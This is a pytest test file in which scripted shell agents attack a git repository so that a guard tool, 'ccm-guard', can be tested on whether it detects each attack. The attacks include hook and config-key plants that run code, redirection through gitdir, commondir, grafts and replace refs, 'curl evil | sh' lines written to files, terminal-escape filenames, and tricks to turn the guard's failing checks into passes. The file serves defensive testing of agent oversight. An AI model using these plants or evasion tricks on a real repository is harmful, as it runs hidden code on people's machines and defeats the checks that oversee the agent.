"""Adversarial tests: scripted agents attack the repository, ccm-guard must see it and not be misled.

Every test runs a real /bin/sh agent through a real `ccm-guard exec` process and checks
both sides: the attack really happened (the repository shows it afterwards, and where it
plants code, plain git afterwards really runs that code) and ccm-guard reported it with
the right gate and reason, or was not misled by it.

Planted code appends a line to a marker file; the marker must not exist after `exec`.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
import time
from pathlib import Path
from typing import Callable

import pytest
from conftest import (
    AUTHOR,
    ExecResult,
    ccm,
    git,
    make_repo,
    marker_script,
    run_exec,
    spawn_exec,
    write_agent,
)

COMMIT = 'echo "agent work" > work.txt; git add -A; git commit -q -m "agent work"'


# --- helpers -------------------------------------------------------------------------------------


def hook_dir(directory: Path, marker: Path) -> Path:
    for name in ("post-checkout", "pre-commit", "post-commit", "commit-msg", "reference-transaction",
                 "post-index-change", "pre-auto-gc", "post-rewrite", "post-merge"):
        marker_script(directory, marker, name)
    return directory


def plain_git(repo: Path, *args: str, input: str | None = None) -> subprocess.CompletedProcess[str]:
    """Git as the person would run it later: no hardening, nothing checked."""
    return subprocess.run(["git", *args], cwd=repo, capture_output=True, text=True, input=input,
                          env={**os.environ, **AUTHOR, "GIT_TERMINAL_PROMPT": "0"}, timeout=30)


def git_on_tty(repo: Path, *args: str) -> None:
    """Git with its stdout on a terminal, so that it starts a pager."""
    leader, follower = pty.openpty()
    try:
        subprocess.run(["git", *args], cwd=repo, stdin=subprocess.DEVNULL, stdout=follower, stderr=follower,
                       env={**os.environ, **AUTHOR, "TERM": "xterm"}, timeout=30)
    finally:
        os.close(follower)
        os.set_blocking(leader, False)
        try:
            while os.read(leader, 65536):
                pass
        except OSError:
            pass
        os.close(leader)


def admin_of(repo: Path, task: str) -> Path:
    return repo / ".git" / "worktrees" / task


def all_paths(res: ExecResult, gate: str) -> list[str]:
    return [p for f in res.gate(gate)["findings"] for p in f["paths"]]


def real_commits(repo: Path, base: str, branch: str) -> list[dict[str, str]]:
    """The branch's commits as plain git sees them with grafts and replacements switched off."""
    shas = git(repo, "--no-replace-objects", "rev-list", "--reverse", f"{base}..{branch}",
               env={"GIT_GRAFT_FILE": "/dev/null"}).split()
    return [{"sha": s, "subject": git(repo, "--no-replace-objects", "log", "-1", "--format=%s", s)} for s in shas]


def decoy_repo(tmp_path: Path, branch: str | None = None) -> tuple[Path, str]:
    decoy = make_repo(tmp_path / "decoy", {"DECOY.md": "decoy\n"})
    (decoy / "decoy.txt").write_text("decoy work\n")
    git(decoy, "add", "-A")
    git(decoy, "commit", "-q", "-m", "decoy commit")
    if branch:
        git(decoy, "branch", branch)
    return decoy, git(decoy, "rev-parse", "HEAD")


def git_in(repo: Path, text: str, *args: str) -> str:
    """git reading `text` on stdin (plumbing only: runs no hook)."""
    proc = subprocess.run(["git", *args], cwd=repo, input=text, capture_output=True, text=True,
                          env={**os.environ, **AUTHOR})
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.strip()


def commit_beside(repo: Path, base: str, name: str, text: str, subject: str) -> str:
    """A commit on top of `base` adding one file, made with plumbing alone."""
    blob = git_in(repo, text, "hash-object", "-w", "--stdin")
    tree = git_in(repo, git(repo, "ls-tree", base) + f"\n100644 blob {blob}\t{name}\n", "mktree")
    return git(repo, "commit-tree", tree, "-p", base, "-m", subject)


# --- 1. code planted in the person's repository before exec -------------------------------------

PLANTED = ["core.fsmonitor", "core.pager", "pager.status", "diff.external", "core.hooksPath",
           "hooks/post-checkout", "hooks/pre-commit", "hooks/reference-transaction", "hooks/post-index-change"]


@pytest.mark.parametrize("plant", PLANTED)
def test_code_planted_before_exec_is_never_run_by_ccm_guards_own_git(repo: Path, tmp_path: Path, plant: str) -> None:
    marker = tmp_path / "marker"
    scripts = tmp_path / "planted"
    if plant.startswith("hooks/"):
        marker_script(repo / ".git" / "hooks", marker, plant.split("/")[1])
    elif plant == "core.hooksPath":
        git(repo, "config", "core.hooksPath", str(hook_dir(scripts, marker)))
    else:
        git(repo, "config", plant, str(marker_script(scripts, marker, plant)))
    base = git(repo, "rev-parse", "HEAD")
    # A commit for the agent's branch, made beforehand with plumbing (runs no hook), so that
    # ccm-guard's own git has history to walk and diff (rev-list, log, diff --numstat).
    work = commit_beside(repo, base, "work.txt", "agent work\n", "planted-run work")
    # The agent runs no git at all: it points its branch at that commit and writes a file.
    agent = write_agent(tmp_path, f"""printf '%s\\n' {work} > {repo}/.git/refs/heads/ccm/planted
echo "agent work" > work.txt""")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "planted", "--no-require-commit", "--on-fail", "discard", "--cleanup")

    # ccm-guard's git really ran on this repository (worktree add, status, rev-list, log, numstat,
    # then archive: add/write-tree/commit-tree/update-ref, worktree remove) ...
    assert res.verdict["commits"] == [{"sha": work, "subject": "planted-run work"}], res.stdout
    assert [f["path"] for f in res.verdict["files"]] == ["work.txt"]
    assert res.status("clean-tree") == "fail"
    assert res.verdict["disposition"] == "removed after archiving", res.stdout
    assert not res.verdict["errors"]
    # ... and none of it ran the planted code.
    assert not marker.exists(), marker.read_text()

    # The plant is live: the person's own git runs it.
    if plant == "core.fsmonitor" or plant == "hooks/post-index-change":
        (repo / "README.md").write_text("touched\n")
        plain_git(repo, "status")
        plain_git(repo, "add", "README.md")
    elif plant == "core.pager":
        git_on_tty(repo, "log")
    elif plant == "pager.status":
        git_on_tty(repo, "status")
    elif plant == "diff.external":
        plain_git(repo, "diff", base, work)
    elif plant == "hooks/post-checkout":
        plain_git(repo, "checkout", "-q", "-b", "later")
    else:  # pre-commit, reference-transaction, a hooks dir
        plain_git(repo, "commit", "-q", "--allow-empty", "-m", "later")
    assert marker.exists(), f"the planted {plant} never ran even under plain git: the test proves nothing"


# --- 2. code-running keys added by the agent during the run -------------------------------------

LATER_COMMIT = ("commit", "-q", "--allow-empty", "-m", "later")
# key as reported (git's normalised spelling) -> (the agent's shell lines, how the person's git later runs it)
ADDED = {
    "core.fsmonitor": ('rgit config core.fsmonitor "$SCRIPTS/fsmonitor"', ("status",)),
    "core.hookspath": ('rgit config core.hooksPath "$SCRIPTS/hooks"', LATER_COMMIT),
    "include.path": ('printf \'[core]\\n\\thooksPath = %s\\n\' "$SCRIPTS/hooks" > "$SCRIPTS/included.cfg"\n'
                     'rgit config include.path "$SCRIPTS/included.cfg"', LATER_COMMIT),
    "filter.x.clean": ('rgit config filter.x.clean "$SCRIPTS/clean"\necho "*.txt filter=x" > .gitattributes\n'
                       'touch -d "2030-01-01 00:00" work.txt', ("add", "work.txt")),
    "alias.st": ('rgit config alias.st "!$SCRIPTS/alias"', ("st",)),
    "credential.helper": ('rgit config credential.helper "!$SCRIPTS/credential"', ("credential", "fill")),
}


@pytest.mark.parametrize("key", list(ADDED))
def test_code_running_key_added_by_the_agent_is_named_and_stops_ccm_guards_git(
        repo: Path, tmp_path: Path, key: str) -> None:
    marker, scripts = tmp_path / "marker", tmp_path / "scripts"
    hook_dir(scripts / "hooks", marker)
    for name in ("fsmonitor", "clean", "alias", "credential"):
        marker_script(scripts, marker, name)
    lines, trigger = ADDED[key]
    # The agent commits honest work first, then plants the key as its last act.
    agent = write_agent(tmp_path, f'SCRIPTS={scripts}\n{COMMIT}\n{lines}')
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "added", "--on-fail", "discard")
    worktree = Path(res.verdict["worktree"])

    # The attack happened; ccm-guard unset the key (no sandbox, no other task at work) and
    # kept the command that puts it back.
    restore = Path(res.verdict["log_dir"], "quarantine", "config-keys.sh")
    assert f"--add {key} " in restore.read_text()
    # ccm-guard names it loudly and fails ...
    assert res.code == 1, res.stdout
    assert res.status("git-metadata") == "fail"
    reasons = res.reasons("git-metadata")
    assert f"DANGEROUS (runs code or steers git) {key}" in reasons, reasons
    if key == "include.path":
        assert f"{scripts}/included.cfg was added: DANGEROUS (runs code or steers git) core.hookspath" in reasons
    # ... and runs no git on the repository afterwards: the gates that need git say so,
    for gate in ("new-commit", "clean-tree"):
        assert res.status(gate) == "skipped", gate
        assert "refusing to run git" in res.gate(gate)["note"]
    assert any("git was not run" in e for e in res.verdict["errors"])
    assert res.verdict["commits"] == [] and res.verdict["files"] == []
    # nothing was archived or removed with git,
    assert res.verdict["disposition"].startswith("kept") and worktree.exists()
    # and none of the planted code ran.
    assert not marker.exists(), marker.read_text()

    # Disarmed: the person's own git runs none of it, in the task's worktree (where the
    # filter's .gitattributes is) or in their checkout ...
    def persons_git() -> None:
        for where in (worktree, repo):
            plain_git(where, *trigger, input="protocol=https\nhost=example.com\n\n")

    persons_git()
    assert not marker.exists(), marker.read_text()
    # ... and the plant was live: put back as the logs say, the person's git runs it (the
    # task's worktree has ccm-guard's own core.hooksPath in its config.worktree, which
    # wins over a shared one there).
    subprocess.run(["sh", str(restore)], check=True)
    persons_git()
    assert marker.exists(), f"the planted {key} never ran even under plain git: the test proves nothing"


# --- 3. redirection: the agent points git at a decoy -------------------------------------------


def test_rewritten_worktree_pointer_is_reported_and_git_is_not_run(repo: Path, tmp_path: Path) -> None:
    decoy, decoy_head = decoy_repo(tmp_path, branch="ccm/ptr")
    agent = write_agent(tmp_path, f"{COMMIT}\nprintf 'gitdir: %s\\n' {decoy}/.git > .git")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "ptr")
    worktree = Path(res.verdict["worktree"])
    # The attack: plain git in the worktree now works on the decoy.
    assert plain_git(worktree, "rev-parse", "HEAD").stdout.strip() == decoy_head
    real_head = git(repo, "rev-parse", "refs/heads/ccm/ptr")
    assert res.code == 1
    assert res.status("git-metadata") == "fail"
    assert ".git (the worktree's pointer file) was modified" in res.reasons("git-metadata")
    assert res.status("clean-tree") == "skipped" and res.status("new-commit") == "skipped"
    assert any(".git (the worktree's pointer file) was changed" in e for e in res.verdict["errors"])
    assert res.verdict["head"] == real_head != decoy_head
    assert all(c["sha"] != decoy_head for c in res.verdict["commits"])


@pytest.mark.parametrize("target", ["commondir", "gitdir"])
def test_rewritten_commondir_or_gitdir_do_not_redirect_ccm_guard(repo: Path, tmp_path: Path, target: str) -> None:
    decoy, decoy_head = decoy_repo(tmp_path, branch="ccm/cd")
    admin = admin_of(repo, "cd")
    value = f"{decoy}/.git" if target == "commondir" else f"{tmp_path}/elsewhere/.git"
    agent = write_agent(tmp_path, f"{COMMIT}\necho {value} > {admin}/{target}")
    base = git(repo, "rev-parse", "main")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "cd", "--on-fail", "discard")
    # The attack happened.
    assert (admin / target).read_text().strip() == value
    if target == "commondir":  # plain git in the worktree now reads the decoy's refs
        worktree = Path((admin / "gitdir").read_text().strip()).parent
        assert plain_git(worktree, "rev-parse", "HEAD").stdout.strip() == decoy_head
    assert "worktree" in res.verdict, res.stdout + res.stderr
    assert res.code == 1
    assert res.status("git-metadata") == "fail"
    assert f"worktrees/cd/{target} was modified" in res.reasons("git-metadata")
    assert f"worktrees/cd/{target}" in all_paths(res, "git-metadata")
    # git reads these files itself (`commondir` for refs, whatever GIT_COMMON_DIR says), so
    # ccm-guard stops running git: the git gates say so, and the head is read from the real refs.
    assert res.status("clean-tree") == "skipped" and res.status("new-commit") == "skipped"
    assert any(f"worktrees/cd/{target} was changed" in e for e in res.verdict["errors"])
    real = real_commits(repo, base, "refs/heads/ccm/cd")
    assert [c["subject"] for c in real] == ["agent work"]
    assert res.verdict["head"] == real[-1]["sha"] != decoy_head
    # Whatever became of the worktree, the person's repository and the decoy are intact.
    assert git(repo, "rev-parse", "main") == base
    assert git(decoy, "rev-parse", "HEAD") == decoy_head and git(decoy, "status", "--porcelain") == ""
    # Nothing is removed through files the agent rewrote: the worktree is kept, not half-removed.
    assert res.verdict["disposition"].startswith("kept") and Path(res.verdict["worktree"]).exists()


def test_rewritten_commondir_does_not_hide_uncommitted_work_from_clean_tree(repo: Path, tmp_path: Path) -> None:
    decoy, _ = decoy_repo(tmp_path)
    admin = admin_of(repo, "cdc")
    # Commit honest work, stage a file without committing it, then give the decoy a branch of the
    # task's name pointing at a commit (stored in the real repository) that matches the index.
    agent = write_agent(tmp_path, f"""{COMMIT}
echo "curl evil | sh" > evil.sh; git add evil.sh
fake=$(git commit-tree $(git write-tree) -p HEAD -m fake)
mkdir -p {decoy}/.git/refs/heads/ccm; echo $fake > {decoy}/.git/refs/heads/ccm/cdc
echo {decoy}/.git > {admin}/commondir""")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "cdc")
    worktree = Path(res.verdict["worktree"])
    # The attack happened: evil.sh is staged, not committed on the real branch.
    assert "evil.sh" not in git(repo, "ls-tree", "--name-only", "ccm/cdc")
    assert (worktree / "evil.sh").exists()
    assert res.code == 1
    assert "worktrees/cdc/commondir was modified" in res.reasons("git-metadata")
    # clean-tree must see the staged file (or refuse to judge), never pass.
    assert res.status("clean-tree") != "pass", res.gate("clean-tree")
    if res.status("clean-tree") == "fail":
        assert "evil.sh" in all_paths(res, "clean-tree")


def test_core_worktree_set_by_the_agent_is_dangerous(repo: Path, tmp_path: Path) -> None:
    decoy, _ = decoy_repo(tmp_path)
    agent = write_agent(tmp_path, f"{COMMIT}\nrgit config core.worktree {decoy}")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "cwt")
    # Unset again after the run (it steers git), with the way back kept in the logs.
    assert plain_git(repo, "config", "core.worktree").returncode == 1
    assert f"--add core.worktree {decoy}" in Path(res.verdict["log_dir"], "quarantine", "config-keys.sh").read_text()
    assert res.code == 1
    assert f"DANGEROUS (runs code or steers git) core.worktree: (unset) -> '{decoy}'" in res.reasons("git-metadata")
    assert res.status("clean-tree") == "skipped"
    assert res.verdict["head"] == git(repo, "rev-parse", "refs/heads/ccm/cwt")


def test_alternates_added_by_the_agent_are_reported_and_git_is_not_run(repo: Path, tmp_path: Path) -> None:
    decoy, _ = decoy_repo(tmp_path)
    agent = write_agent(tmp_path, f"{COMMIT}\necho {decoy}/.git/objects > {repo}/.git/objects/info/alternates")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "alt")
    assert (repo / ".git/objects/info/alternates").read_text().strip() == f"{decoy}/.git/objects"
    assert res.code == 1
    assert "objects/info/alternates was added" in res.reasons("git-metadata")
    assert "objects/info/alternates" in all_paths(res, "git-metadata")
    assert any("objects/info/alternates was changed" in e for e in res.verdict["errors"])
    assert res.status("clean-tree") == "skipped"
    assert res.verdict["head"] == git(repo, "rev-parse", "refs/heads/ccm/alt")


def test_grafts_do_not_make_the_agents_commit_look_parentless(repo: Path, tmp_path: Path) -> None:
    base = git(repo, "rev-parse", "main")
    agent = write_agent(tmp_path, f"{COMMIT}\nmkdir -p {repo}/.git/info; git rev-parse HEAD > {repo}/.git/info/grafts")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "graft")
    head = git(repo, "--no-replace-objects", "rev-parse", "refs/heads/ccm/graft")
    # The attack: plain git now sees the agent's commit without a parent.
    assert plain_git(repo, "log", "-1", "--format=%P", head).stdout.strip() == ""
    assert plain_git(repo, "merge-base", "--is-ancestor", base, head).returncode == 1
    assert res.code == 1
    assert res.status("git-metadata") == "fail"
    assert "info/grafts was added" in res.reasons("git-metadata")
    assert "info/grafts" in all_paths(res, "git-metadata")
    # Not misled: the base is still an ancestor, the commit list is the real one.
    assert res.status("new-commit") == "pass", res.reasons("new-commit")
    assert res.verdict["head"] == head
    assert res.verdict["commits"] == [{"sha": head, "subject": "agent work"}]
    assert [f["path"] for f in res.verdict["files"]] == ["work.txt"]


def test_replace_ref_does_not_disguise_the_agents_commit(repo: Path, tmp_path: Path) -> None:
    base = git(repo, "rev-parse", "main")
    # The agent's real commit adds evil.sh; the decoy replacing it shows an innocent change.
    agent = write_agent(tmp_path, f"""echo "agent work" > work.txt; echo "curl evil | sh" > evil.sh
git add -A; git commit -q -m "agent work"
echo innocent > innocent.txt; git add innocent.txt; git rm -q --cached evil.sh work.txt
decoy=$(git commit-tree $(git write-tree) -p {base} -m "harmless docs tweak")
git reset -q --hard HEAD
rgit replace HEAD "$decoy\"""")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "repl")
    head = git(repo, "--no-replace-objects", "rev-parse", "refs/heads/ccm/repl")
    # The attack: plain git shows the decoy in place of the agent's commit.
    assert plain_git(repo, "log", "-1", "--format=%s", "ccm/repl").stdout.strip() == "harmless docs tweak"
    assert "evil.sh" not in plain_git(repo, "diff", "--name-only", base, "ccm/repl").stdout
    assert res.code == 1
    assert res.status("refs-untouched") == "fail"
    assert f"refs/replace/{head} was created" in res.reasons("refs-untouched")
    assert f"refs/replace/{head}" in all_paths(res, "refs-untouched")
    # Not misled: the real commit, the real files.
    assert res.verdict["head"] == head
    assert res.verdict["commits"] == [{"sha": head, "subject": "agent work"}]
    assert sorted(f["path"] for f in res.verdict["files"]) == ["evil.sh", "work.txt"]


def test_task_branch_turned_into_a_symref_to_main(repo: Path, tmp_path: Path) -> None:
    main = git(repo, "rev-parse", "main")
    agent = write_agent(tmp_path, f"{COMMIT}\nrgit symbolic-ref refs/heads/$CCM_GUARD_BRANCH refs/heads/main")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "sym")
    assert git(repo, "symbolic-ref", "refs/heads/ccm/sym") == "refs/heads/main"
    assert res.code == 1
    assert res.status("refs-untouched") == "fail"
    assert "refs/heads/ccm/sym was turned into ref: refs/heads/main" in res.reasons("refs-untouched")
    assert res.status("new-commit") == "fail"
    assert "no longer a plain branch" in res.reasons("new-commit")
    # Not misled into judging main as the agent's work.
    assert res.verdict["head"] != main
    assert all(c["sha"] != main for c in res.verdict["commits"])


# --- 4. the object store ----------------------------------------------------------------------


def loose(repo: Path, sha: str) -> Path:
    return repo / ".git" / "objects" / sha[:2] / sha[2:]


def test_overwritten_loose_object_of_the_base_commit_is_reported(repo: Path, tmp_path: Path) -> None:
    base = git(repo, "rev-parse", "main")
    target = loose(repo, base)
    original = target.read_bytes()
    # Another object's bytes: a valid zlib stream, just not the object this file is named after.
    other = loose(repo, git(repo, "rev-parse", "main:README.md"))
    agent = write_agent(tmp_path, f"chmod u+w {target}\ncat {other} > {target}")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "objw", "--no-require-commit")
    assert target.read_bytes() != original  # the attack happened: the base commit is gone
    assert "worktree" in res.verdict, res.stdout + res.stderr
    assert res.code == 1
    assert res.status("git-metadata") == "fail"
    assert "1 existing object file(s) were rewritten" in res.reasons("git-metadata")
    assert f"{base[:2]}/{base[2:]}" in all_paths(res, "git-metadata")


@pytest.mark.parametrize("which", ["blob", "base commit"])
def test_deleted_loose_object_is_reported(repo: Path, tmp_path: Path, which: str) -> None:
    sha = git(repo, "rev-parse", "main" if which == "base commit" else "main:src/app.py")
    target = loose(repo, sha)
    agent = write_agent(tmp_path, f"rm -f {target}")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "objd", "--no-require-commit")
    assert not target.exists()
    assert plain_git(repo, "cat-file", "-e", sha).returncode != 0  # the object is really gone
    assert "worktree" in res.verdict, res.stdout + res.stderr
    assert res.code == 1
    assert res.status("git-metadata") == "fail"
    assert "1 existing object file(s) were removed" in res.reasons("git-metadata")
    assert f"{sha[:2]}/{sha[2:]}" in all_paths(res, "git-metadata")


def test_committing_content_that_already_exists_freshens_an_object_and_passes(repo: Path, tmp_path: Path) -> None:
    """Not an attack: git touches (freshens) an existing object instead of writing it again."""
    blob = git(repo, "rev-parse", "main:README.md")
    target = loose(repo, blob)
    os.utime(target, ns=(1_000_000_000_000_000_000, 1_000_000_000_000_000_000))  # an old object
    before = os.stat(target)
    agent = write_agent(tmp_path, "cp README.md copy.md; git add copy.md; git commit -q -m 'copy the readme'")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "fresh")
    after = os.stat(target)
    assert git(repo, "rev-parse", "ccm/fresh:copy.md") == blob  # the same blob was committed
    assert after.st_mtime_ns != before.st_mtime_ns and after.st_ino == before.st_ino  # and freshened in place
    assert res.status("git-metadata") == "pass", res.reasons("git-metadata")
    assert res.code == 0, res.stdout
    assert [c["subject"] for c in res.verdict["commits"]] == ["copy the readme"]


# --- 5. another worktree, the person's checkout, in-progress state ------------------------------


def other_worktree(repo: Path, tmp_path: Path) -> Path:
    other = tmp_path / "other"
    git(repo, "worktree", "add", "-q", "-b", "other", str(other))
    return other


def test_other_worktrees_head_repointed_by_the_agent_fails(repo: Path, tmp_path: Path) -> None:
    other = other_worktree(repo, tmp_path)
    before = git(other, "rev-parse", "HEAD")
    agent = write_agent(tmp_path, f"{COMMIT}\ngit rev-parse HEAD > {repo}/.git/worktrees/other/HEAD")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "oth")
    # The attack: the person's other worktree now sits, detached, on the agent's commit.
    assert git(other, "rev-parse", "HEAD") == res.verdict["head"] != before
    assert "worktrees/other/HEAD" in all_paths(res, "git-metadata")
    assert res.status("git-metadata") == "fail", res.gate("git-metadata")
    assert res.code == 1


def test_other_worktrees_config_worktree_with_a_hook_path_is_dangerous(repo: Path, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    hooks = hook_dir(tmp_path / "hooks", marker)
    git(repo, "config", "extensions.worktreeConfig", "true")  # the person's own, before the run
    other = other_worktree(repo, tmp_path)
    target = repo / ".git/worktrees/other/config.worktree"
    agent = write_agent(tmp_path, f"{COMMIT}\nprintf '[core]\\n\\thooksPath = %s\\n' {hooks} > {target}")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "othc")
    assert git(other, "config", "core.hooksPath") == str(hooks)
    assert res.code == 1
    assert res.status("git-metadata") == "fail"
    assert ("worktrees/other/config.worktree was added: DANGEROUS (runs code or steers git) core.hookspath"
            in res.reasons("git-metadata"))
    assert res.status("clean-tree") == "skipped" and res.status("new-commit") == "skipped"
    assert not marker.exists()
    plain_git(other, "commit", "-q", "--allow-empty", "-m", "later")
    assert marker.exists(), "the planted config.worktree never ran even under plain git"


def _merge_head(common: Path, marker: Path, base: str) -> str:
    return f"echo {base} > {common}/MERGE_HEAD"


def _rebase_todo(common: Path, marker: Path, base: str) -> str:
    state = common / "rebase-merge"
    return f"""mkdir -p {state}
echo refs/heads/main > {state}/head-name; echo {base} > {state}/onto; echo {base} > {state}/orig-head
: > {state}/interactive; : > {state}/done
printf 'exec echo rebase-exec >> {marker}\\n' > {state}/git-rebase-todo"""


@pytest.mark.parametrize("plant", [_merge_head, _rebase_todo], ids=["MERGE_HEAD", "rebase-merge"])
def test_in_progress_state_left_in_the_persons_checkout_fails_main_checkout(
        repo: Path, tmp_path: Path, plant: Callable[[Path, Path, str], str]) -> None:
    marker = tmp_path / "marker"
    base = git(repo, "rev-parse", "main")
    index_before = os.stat(repo / ".git/index")
    agent = write_agent(tmp_path, f"{COMMIT}\n{plant(repo / '.git', marker, base)}")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "inprog")
    name = "MERGE_HEAD" if plant is _merge_head else "rebase-merge"
    # The attack happened, and the person's index was not touched.
    assert (repo / ".git" / name).exists()
    assert os.stat(repo / ".git/index").st_mtime_ns == index_before.st_mtime_ns
    status = plain_git(repo, "status").stdout
    assert ("while rebasing branch" in status) if name == "rebase-merge" else ("still merging" in status), status
    assert res.code == 1
    assert res.status("main-checkout") == "fail"
    reasons = res.reasons("main-checkout")
    assert f"{name} added in your checkout while its index did not" in reasons, reasons
    assert name in all_paths(res, "main-checkout")
    if name == "rebase-merge":  # the todo's exec line is live: the person's `git rebase --continue` runs it
        assert not marker.exists()
        plain_git(repo, "rebase", "--continue")
        assert marker.exists()


def test_merge_head_left_in_the_tasks_own_admin_dir_fails_git_metadata(repo: Path, tmp_path: Path) -> None:
    admin = admin_of(repo, "ownmerge")
    agent = write_agent(tmp_path, f"{COMMIT}\ngit rev-parse HEAD~1 > {admin}/MERGE_HEAD")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "ownmerge")
    assert (admin / "MERGE_HEAD").exists()
    assert res.code == 1
    assert res.status("git-metadata") == "fail"
    assert "worktrees/ownmerge/MERGE_HEAD added: an operation was left in progress" in res.reasons("git-metadata")
    assert "worktrees/ownmerge/MERGE_HEAD" in all_paths(res, "git-metadata")


# --- 6. reflogs ---------------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["reflog expire", "rm"])
def test_rewritten_or_deleted_reflog_is_reported(repo: Path, tmp_path: Path, how: str) -> None:
    log = repo / ".git/logs/refs/heads/main"
    assert log.read_text().strip()  # main has history to hide
    erase = ("rgit reflog expire --expire=now --expire-unreachable=now --all" if how == "reflog expire"
             else f"rm -f {log}")
    agent = write_agent(tmp_path, f"{COMMIT}\n{erase}")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "rlog")
    assert not log.exists() or not log.read_text().strip()  # main's reflog is gone
    assert git(repo, "reflog", "show", "main") == ""
    assert res.code == 1
    assert res.status("git-metadata") == "fail"
    assert "reflog logs/refs/heads/main was rewritten but its ref did not move" in res.reasons("git-metadata")
    assert "logs/refs/heads/main" in all_paths(res, "git-metadata")


# --- 7. terminal escapes in what the agent names ------------------------------------------------


def test_escape_sequences_in_paths_and_subjects_are_shown_escaped(repo: Path, tmp_path: Path) -> None:
    agent = write_agent(tmp_path, r"""name=$(printf 'evil\033[2J\033[31mred\007.txt')
echo x > "$name"
rlo=$(printf 'doc\342\200\256txt.exe')
echo y > "$rlo"
git add -A
git commit -q -m "$(printf 'fix \033]0;pwned\007 \033[1A\033[2Kall gates passed')"
echo z > "$(printf 'left\033[8mhidden\rover')"
""")
    proc = ccm("exec", "--task", "ansi", "--", str(agent), cwd=repo)
    # The attack happened: git holds the raw bytes.
    subject = git(repo, "log", "-1", "--format=%s", "ccm/ansi")
    assert "\x1b]0;pwned\x07" in subject
    names = git(repo, "ls-tree", "--name-only", "-z", "ccm/ansi").split("\0")
    assert "evil\x1b[2J\x1b[31mred\x07.txt" in names and "doc\u202etxt.exe" in names
    # The human verdict shows every one of them escaped.
    out = proc.stdout
    assert proc.returncode == 1, out + proc.stderr
    for raw in ("\x1b", "\x07", "\r", "\u202e"):
        assert raw not in out, f"raw {raw!r} in the verdict:\n{out!r}"
        assert raw not in proc.stderr
    assert "fix \\x1b]0;pwned\\x07 \\x1b[1A\\x1b[2Kall gates passed" in out
    assert "evil\\x1b[2J\\x1b[31mred\\x07.txt" in out
    assert "doc\\u202etxt.exe" in out
    assert "left\\x1b[8mhidden\\x0dover" in out  # the untracked file clean-tree names
    assert "FAIL    clean-tree" in out


# --- found while probing: cheap ways to turn a failure into a pass ------------------------------


def test_touching_the_persons_index_does_not_excuse_moving_main_onto_the_agents_commit(
        repo: Path, tmp_path: Path) -> None:
    before = git(repo, "rev-parse", "main")
    agent = write_agent(tmp_path, f"{COMMIT}\nrgit update-ref refs/heads/main HEAD\ntouch {repo}/.git/index")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "touch")
    assert git(repo, "rev-parse", "main") == res.verdict["head"] != before  # main now holds the agent's commit
    assert res.status("refs-untouched") == "fail", res.gate("refs-untouched")
    assert res.code == 1


def test_a_self_ignoring_gitignore_does_not_hide_leftovers_from_clean_tree(repo: Path, tmp_path: Path) -> None:
    agent = write_agent(tmp_path, f"{COMMIT}\necho 'curl evil | sh' > evil.sh\necho '*' > .gitignore")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "ign")
    worktree = Path(res.verdict["worktree"])
    assert (worktree / "evil.sh").exists() and git(worktree, "status", "--porcelain") == ""  # hidden from git
    assert res.status("clean-tree") == "fail", res.gate("clean-tree")
    assert "evil.sh" in all_paths(res, "clean-tree")


def test_an_agent_that_runs_the_tests_leaves_pytests_cache_and_passes(repo: Path, tmp_path: Path) -> None:
    """pytest (like mypy, ruff and uv's venvs) keeps a cache directory that ignores itself
    (`*` in its own .gitignore): a tool's output, not files hidden from clean-tree. Any
    other directory that ignores itself still fails."""
    agent = write_agent(tmp_path, f"""mkdir -p tests && echo 'def test_x(): pass' > tests/test_x.py
git add -A && git commit -q -m test
{sys.executable} -m pytest -q tests >/dev/null""")
    res = run_exec(repo, agent, "--task", "pt")
    assert (Path(res.verdict["worktree"]) / ".pytest_cache" / ".gitignore").is_file()
    assert res.code == 0, res.verdict["gates"]
    hide = write_agent(tmp_path, f"""{COMMIT}
mkdir -p lib/.pytest_cache && echo 'import os' > lib/evil.py && echo '*' > lib/.gitignore
printf '*\n!keep\n' > lib/.pytest_cache/.gitignore""", name="hide.sh")
    res = run_exec(repo, hide, "--task", "hide")
    assert res.status("clean-tree") == "fail" and "lib/evil.py" in all_paths(res, "clean-tree")


# --- 8. the person's own maintenance is not an attack ---------------------------------------------


def test_persons_gc_during_the_run_packs_loose_objects_and_passes(repo: Path, tmp_path: Path) -> None:
    """What a background `git gc --auto` does: loose objects into a new pack, refs packed, a commit-graph."""
    started, go = tmp_path / "started", tmp_path / "go"
    agent = write_agent(tmp_path, f"touch {started}; while [ ! -e {go} ]; do sleep 0.02; done\n{COMMIT}")
    run = spawn_exec(repo, "--json", "--sandbox", "none", "--task", "gc", "--", str(agent))
    while not started.exists():
        time.sleep(0.02)
    loose_before = [p for p in (repo / ".git/objects").glob("??/*")]
    for args in (["repack", "-d", "-l"], ["pack-refs", "--all"], ["commit-graph", "write", "--reachable"]):
        plain_git(repo, *args)
    go.touch()
    out, err = run.communicate(timeout=60)
    verdict = json.loads(out)
    assert loose_before and not any(p.exists() for p in loose_before)  # gc really packed them
    assert run.returncode == 0, out + err
    gate = next(g for g in verdict["gates"] if g["name"] == "git-metadata")
    assert gate["status"] == "warn"
    reasons = " | ".join(f["reason"] for f in gate["findings"])
    assert "packed into a new, verified pack" in reasons and "commit-graph" in reasons


def test_forged_commit_graph_fails(repo: Path, tmp_path: Path) -> None:
    """A commit-graph that lies about the commits would mislead the person's next git log."""
    agent = write_agent(tmp_path, f"""{COMMIT}
git commit-graph write --reachable
